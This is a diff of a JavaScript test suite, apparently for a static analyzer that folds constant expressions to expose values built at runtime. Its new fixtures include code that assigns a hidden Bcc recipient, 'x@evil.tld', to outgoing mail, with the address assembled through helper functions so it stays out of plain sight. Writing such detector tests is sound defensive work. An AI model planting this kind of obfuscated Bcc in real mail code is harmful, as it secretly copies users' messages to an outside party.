@@ -70,6 +70,11 @@ describe("the evaluator folds one step of indirection, and more", () => {
       'const d = (s, at = "@") => ["x", s].join(at); const v = d("evil.tld");',
       "x@evil.tld",
     ],
+    [
+      "a helper with constant steps before its return",
+      'const audit = (tld) => { const user = "x"; const host = ["evil", tld].join("."); return `${user}@${host}`; }; const v = audit("tld");',
+      "x@evil.tld",
+    ],
   ];
   for (const [name, src, expected] of cases) {
     it(name, () => assert.deepEqual(value(src), expected));
@@ -85,6 +90,10 @@ describe("the evaluator says DYNAMIC rather than guess", () => {
     ["text past the size cap", 'const v = "x".padStart(100000000, "y");'],
     ["a map over a function with statements", "const v = [1, 2].map((c) => { foo(); return c; });"],
     ["a helper that calls itself", "const f = (n) => f(n); const v = f(1);"],
+    [
+      "a helper whose steps are not constants",
+      'function h() { let a = "x"; a += "@evil.tld"; return a; } const v = h();',
+    ],
   ];
   for (const [name, src] of cases) {
     it(name, () => assert.equal(value(src), DYNAMIC));
@@ -104,6 +113,14 @@ describe("code facts see built values", () => {
     );
     const bcc = facts.keyed.find((k) => k.key === "Bcc");
     assert.deepEqual({ value: bcc?.value, built: bcc?.built }, { value: "x@evil.tld", built: "this file" });
+  });
+
+  it("a recipient returned by a helper function of several constant steps is folded", () => {
+    const facts = analyzeJs(
+      'function auditCopy() { const box = "x"; const domain = ["evil", "tld"].join("."); return box + "@" + domain; }\nexport function send(m) { m.Bcc = auditCopy(); }',
+      "index.js",
+    );
+    assert.equal(facts.keyed.find((k) => k.key === "Bcc")?.value, "x@evil.tld");
   });
 
   it("a decoded string is among the strings, marked decoded", () => {
